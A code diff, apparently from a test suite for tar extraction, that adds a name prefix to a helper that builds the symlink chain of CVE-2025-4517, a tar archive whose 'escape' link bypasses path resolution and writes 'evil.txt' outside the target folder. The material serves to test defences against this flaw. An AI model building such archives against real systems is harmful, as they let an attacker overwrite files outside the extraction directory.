@@ -74,11 +74,12 @@ def good_bag_members(bag_dir: str = "pkg", payload: dict[str, bytes] | None = No
     return members
 
 
-def cve_2025_4517_chain(outside: str, *, levels: int = 16) -> list[Member]:
+def cve_2025_4517_chain(outside: str, *, levels: int = 16, prefix: str = "") -> list[Member]:
     """The symlink chain of CVE-2025-4517 (cpython#135034): folders of 247-character names,
     a one-letter symlink to each, so that the resolved path of ``a/b/c/.../l...l`` exceeds
     PATH_MAX and ``os.path.realpath`` stops resolving; a link ``escape`` through that chain
-    then points to ``outside`` (an absolute folder) and a file is written through it."""
+    then points to ``outside`` (an absolute folder) and a file is written through it. Every
+    name starts with ``prefix`` (e.g. a bag folder, ``"pkg/"``)."""
     comp = "d" * 247
     steps = "abcdefghijklmnopqrstuvwxyz"[:levels]
     members: list[Member] = []
@@ -92,6 +93,8 @@ def cve_2025_4517_chain(outside: str, *, levels: int = 16) -> list[Member]:
     depth = outside.count("/") + 8
     members.append(special("escape", tarfile.SYMTYPE, link + "/" + "../" * depth + outside.lstrip("/")))
     members.append(reg("escape/evil.txt", b"written outside the target"))
+    for ti, _ in members:
+        ti.name = prefix + ti.name
     return members
 
 
